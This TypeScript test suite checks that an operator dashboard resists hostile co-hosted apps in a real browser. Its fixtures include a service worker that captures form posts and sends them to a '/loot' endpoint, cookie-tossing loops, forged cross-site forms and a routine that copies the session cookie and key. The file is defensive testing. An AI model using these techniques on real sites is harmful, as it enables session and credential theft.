import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { readAsOperator, type Operator } from "../helpers/operator.ts";
import { SCRIPT, STYLE } from "../../functions/dashboard/assets.generated.ts";
import { launchChromium } from "../helpers/sdk-browser.ts";
import { CONTROL_TOKEN, OPERATOR_NAME, startTestStack, until, type TestStack } from "../helpers/stack.ts";

/**
 * An app that wants the operator's token, in a real browser: as an app of the stack (`evil.localhost`, the default app
 * and, where it was before, the operator's own host), and at its own port, where the operator's host leads, too.
 */
let stack: TestStack;
let browser: Browser;
let evil: Server;
let evilPort = 0;
/** What came to the app at its own port: requests with their cookies, and what its scripts sent home. */
let seen: IncomingMessage[] = [];
let loot: string[] = [];

let context: BrowserContext;
let dashboard: Page;

/** Answers every navigation with a copy of the dashboard, and sends home what is typed into it. */
const SERVICE_WORKER = `
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.method === "POST") event.waitUntil(event.request.clone().text().then((body) => fetch("/loot", { method: "PUT", body })));
  if (event.request.mode === "navigate" && event.request.method === "GET" && !event.request.url.includes("?plain"))
    event.respondWith(fetch(event.request).then(async (answer) => new Response("<h1>stolen</h1>" + (await answer.text()), { headers: { "content-type": "text/html" } })));
});`;

beforeAll(async () => {
  evil = createServer((request, response) => {
    seen.push(request);
    if (request.method === "PUT") {
      request.setEncoding("utf8").on("data", (text: string) => loot.push(text));
      request.on("end", () => response.end());
      return;
    }
    const isWorker = request.url === "/sw.js";
    response.setHeader("content-type", isWorker ? "text/javascript" : "text/html");
    response.setHeader("service-worker-allowed", "/");
    response.end(isWorker ? SERVICE_WORKER : "<!doctype html><title>evil</title>");
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilPort = (evil.address() as AddressInfo).port;
  [stack, browser] = await Promise.all([
    startTestStack({ settings: { OPERATOR_HOST: OPERATOR_NAME } }),
    launchChromium(),
  ]);
  await deployEvil("evil", { default: true });
});

afterAll(async () => {
  await browser.close();
  await stack.stop();
  evil.closeAllConnections();
  evil.close();
});

beforeEach(async () => {
  seen = [];
  loot = [];
  context = await browser.newContext();
  dashboard = await context.newPage();
});

afterEach(() => context.close());

async function deployEvil(app: string, config: Record<string, unknown>): Promise<void> {
  await stack.api("PUT", `/apps/${app}`, { contract: "none", ...config });
  const target = { kind: "url", url: `http://127.0.0.1:${evilPort}` };
  await stack.api("POST", `/apps/${app}/deployments`, { id: "v1", target });
  await stack.control.until(app, "v1", ["active"], 60_000);
}

async function signIn(page: Page = dashboard): Promise<void> {
  await page.goto(stack.dashboard);
  await page.getByLabel("Control token").fill(CONTROL_TOKEN);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { name: "evil" }).waitFor();
}

async function isSignedIn(): Promise<boolean> {
  const page = await context.newPage();
  await page.goto(stack.dashboard);
  const overview = page.getByRole("heading", { name: "evil" });
  await overview.or(page.getByLabel("Control token")).filter({ visible: true }).waitFor();
  const signedIn = await overview.isVisible();
  await page.close();
  return signedIn;
}

/** What a thief would copy from the browser itself. */
async function copySignIn(): Promise<Operator> {
  const [cookie] = await context.cookies(stack.dashboard);
  const key = await dashboard.evaluate(`localStorage.getItem("signalbox-sign-in-key")`);
  return { cookie: `${cookie?.name}=${cookie?.value}`, key: String(key) };
}

/** The hostile pages: where they stand, and whether the browser thinks them the dashboard's site. */
const places: [string, () => string][] = [
  ["an app's host beside the operator's", () => `http://evil.localhost:${stack.port}/`],
  ["the default app's host", () => `http://localhost:${stack.port}/`],
  ["another port of the operator's host", () => `http://${OPERATOR_NAME}:${evilPort}/`],
  ["another host and port", () => `http://evil.localhost:${evilPort}/`],
];

describe.each(places)("a hostile page on %s", (_name, place) => {
  let page: Page;

  beforeEach(async () => {
    await signIn();
    page = await context.newPage();
    await page.goto(place());
  });

  /** Runs in the page, with `dashboard` and `own` for the addresses. */
  function run(code: string): Promise<unknown> {
    const script = `(async (dashboard, own) => { ${code} })(${JSON.stringify(stack.dashboard)}, location.origin)`;
    return page.evaluate(script);
  }

  test("reads the dashboard with no fetch", async () => {
    const answers = await run(`
      const tries = [];
      for (const path of ["", "apps/evil", "api/v1/apps", "sign-in", ${JSON.stringify(SCRIPT.slice("/_signalbox/".length))}])
        for (const init of [{ credentials: "include" }, { credentials: "include", headers: { "x-signalbox-key": "x" } }])
          tries.push(fetch(dashboard + path, init).then((answer) => answer.text(), () => "refused"));
      return Promise.all(tries);`);
    expect(new Set(answers as string[])).toEqual(new Set(["refused"]));
    const opaque = await run(
      `return fetch(new URL(${JSON.stringify(STYLE)}, dashboard), { mode: "no-cors", credentials: "include" }).then(() => "embedded", () => "refused");`,
    );
    // Another port of the host is another origin, though the same site.
    expect(opaque).toBe("refused");
  });

  test("finds no dashboard and no sign-in on its own origin", async () => {
    const answer = (await run(
      `return fetch("/_signalbox/").then(async (answer) => answer.status + " " + (await answer.text()));`,
    )) as string;
    expect(answer).not.toContain("Control token");
    if (!place().includes(`:${evilPort}`)) {
      expect(answer).toMatch(/^404 /);
      expect(answer).toContain(stack.dashboard);
    }
  });

  test("reads nothing of the dashboard's storage or cookies", async () => {
    expect(await run(`return localStorage.length + sessionStorage.length;`)).toBe(0);
    expect(await run(`return document.cookie;`)).toBe("");
  });

  test("gets no frame of it", async () => {
    const content = await run(`
      const frame = document.createElement("iframe");
      frame.src = dashboard;
      document.body.append(frame);
      await new Promise((resolve) => (frame.onload = frame.onerror = resolve));
      try { return frame.contentDocument?.body?.innerText ?? "blocked"; } catch { return "blocked"; }`);
    expect(content).toBe("blocked");
    const frame = page.frames()[1];
    expect(await frame?.content().catch(() => "")).not.toContain("Control token");
  });

  test("keeps no hold of a dashboard that it opens, and can't hook its form", async () => {
    const popup = context.waitForEvent("page");
    await page.evaluate(
      `window.popup = window.open(${JSON.stringify(stack.dashboard)}, "dashboard"); undefined`,
    );
    const opened = await popup;
    await opened.getByRole("heading", { name: "evil" }).waitFor();
    expect(await opened.evaluate("window.opener")).toBe(null);
    expect(await opened.evaluate("window.name")).toBe("");
    await until(
      () => page.evaluate("window.popup.closed"),
      (closed) => closed === true,
    );
    const hooked = await run(
      `try { window.popup.document.forms[0].addEventListener("submit", () => 1); return "hooked"; } catch { return "refused"; }`,
    );
    expect(hooked).toBe("refused");
  });

  test("changes nothing with a form, and ends no sign-in", async () => {
    for (const [path, fields] of [
      ["sign-out", {}],
      ["sign-in", { token: "wrong-token-of-somebody" }],
      ["sign-in", { token: CONTROL_TOKEN }],
    ] as const) {
      const before = await context.cookies(stack.dashboard);
      const form = await context.newPage();
      await form.goto(place());
      const sent = form.waitForResponse((response) => response.request().method() === "POST");
      await form.evaluate(`
        const form = document.createElement("form");
        form.method = "post";
        form.action = ${JSON.stringify(stack.dashboard + path)};
        for (const [name, value] of Object.entries(${JSON.stringify(fields)})) {
          const input = document.createElement("input");
          Object.assign(input, { name, value });
          form.append(input);
        }
        document.body.append(form);
        setTimeout(() => form.submit());`);
      const answer = await sent;
      await answer.finished();
      expect(answer.status()).toBe(403);
      expect(await context.cookies(stack.dashboard)).toEqual(before);
    }
    await run(
      `await fetch(dashboard + "sign-out", { method: "POST", mode: "no-cors", credentials: "include" }).catch(() => 0);`,
    );
    expect(await isSignedIn()).toBe(true);
  });

  test("tosses cookies in vain", async () => {
    const [ours] = await context.cookies(stack.dashboard);
    const name = ours?.name ?? "";
    await run(`
      for (const domain of ["", "; Domain=localhost", "; Domain=${OPERATOR_NAME}"])
        for (const path of ["/", "/_signalbox", "/_signalbox/", "/_signalbox/api"])
          for (const name of [${JSON.stringify(name)}, "=" + ${JSON.stringify(name)}, "signalbox-sign-in"])
            document.cookie = name + "=" + "x".repeat(43) + "." + "0".repeat(64) + "; Path=" + path + domain;`);
    expect(await isSignedIn()).toBe(true);
  });

  test("sees with a service worker nothing of the sign-in", async () => {
    await run(`
      await navigator.serviceWorker.register("/sw.js", { scope: "/" });
      await navigator.serviceWorker.ready;`);
    await page.reload();
    expect(await page.content()).toContain("stolen");
    await dashboard.getByRole("button", { name: "Sign out" }).click();
    await dashboard.getByLabel("Control token").waitFor();
    await signIn();
    expect(await dashboard.content()).not.toContain("stolen");
    expect(loot.join()).not.toContain(CONTROL_TOKEN);
    expect(await dashboard.evaluate("navigator.serviceWorker.controller")).toBe(null);
  });
});

test("the cookie reaches other ports of the operator's host, and opens nothing there or here", async () => {
  await signIn();
  const page = await context.newPage();
  await page.goto(`http://${OPERATOR_NAME}:${evilPort}/`);
  await page.reload();
  const { cookie, key } = await copySignIn();
  const reached = seen.map(({ headers }) => headers.cookie ?? "").find((cookies) => cookies.includes(cookie));
  expect(reached).toBe(cookie);
  expect((await readAsOperator(stack, { cookie })).status).toBe(401);
  expect((await readAsOperator(stack, { cookie, key })).status).toBe(200);
});

test("the cookie reaches no app through the stack, nor an app's own port", async () => {
  await signIn();
  const page = await context.newPage();
  for (const address of [
    `http://evil.localhost:${stack.port}/`,
    `http://localhost:${stack.port}/`,
    `http://evil.localhost:${evilPort}/`,
    `http://127.0.0.1:${evilPort}/`,
  ]) {
    await page.goto(address);
    await page.reload();
  }
  expect(seen.length).toBeGreaterThanOrEqual(8);
  expect(seen.map(({ headers }) => headers.cookie).filter((cookie) => cookie !== undefined)).toEqual([]);
});

test("a copy of cookie and key is worth nothing after the sign-out", async () => {
  await signIn();
  const copy = await copySignIn();
  expect((await readAsOperator(stack, copy)).status).toBe(200);
  await dashboard.getByRole("button", { name: "Sign out" }).click();
  await dashboard.getByLabel("Control token").waitFor();
  expect((await readAsOperator(stack, copy)).status).toBe(401);
  expect(await dashboard.evaluate("localStorage.length")).toBe(0);
  const [name = "", value = ""] = copy.cookie.split("=");
  await context.addCookies([{ name, value, url: stack.dashboard }]);
  await dashboard.evaluate(`localStorage.setItem("signalbox-sign-in-key", ${JSON.stringify(copy.key)})`);
  expect(await isSignedIn()).toBe(false);
});

test("a link from elsewhere opens the dashboard of a sign-in that goes on", async () => {
  await signIn();
  const page = await context.newPage();
  await page.goto(`http://evil.localhost:${stack.port}/`);
  await page.evaluate(`location.href = ${JSON.stringify(stack.dashboard)}; undefined`);
  await page.getByRole("heading", { name: "evil" }).waitFor();
});

test("a service worker that an app left on the host takes itself away", async () => {
  await stack.restart({ OPERATOR_HOST: "elsewhere.test" });
  await deployEvil("squatter", { hosts: [OPERATOR_NAME] });
  await dashboard.goto(`http://${OPERATOR_NAME}:${stack.port}/`);
  await dashboard.evaluate(
    `navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => 0)`,
  );
  await dashboard.reload();
  expect(await dashboard.content()).toContain("stolen");

  await stack.restart();
  await dashboard.goto(stack.dashboard);
  // The browser looks for a new version once the worker has been idle for a while.
  await dashboard.getByRole("heading", { name: "stolen" }).waitFor({ state: "detached", timeout: 60_000 });
  await dashboard.getByLabel("Control token").waitFor();
  expect(await dashboard.content()).not.toContain("stolen");
  await signIn();
  expect(loot.join()).not.toContain(CONTROL_TOKEN);
});
